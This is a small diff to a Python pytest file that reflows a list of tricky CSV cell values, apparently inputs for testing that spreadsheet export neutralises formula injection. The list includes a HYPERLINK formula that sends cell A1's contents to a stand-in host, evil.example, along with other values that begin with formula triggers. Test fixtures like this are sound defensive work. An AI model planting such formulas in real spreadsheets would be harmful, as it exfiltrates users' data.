@@ -21,7 +21,8 @@ IGNORED = "Visual confusion/Image ignored"
 DETAIL = "Perceptual error/Detail missed"
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 TRICKY = [HYPERLINK, "+1 then", "-2 minus", "@SUM(A1)", "\tTab first", "\rCR first", "'=already quoted",
-          "''+two quotes", "plain, with commas", 'quotes "inside"\nand a\nnewline', "Ünïcödé – 肺 ✓", "'just quote"]
+          "''+two quotes", "plain, with commas", 'quotes "inside"\nand a\nnewline', "Ünïcödé – 肺 ✓",
+          "'just quote"]
 
 
 @pytest.fixture(scope="module")
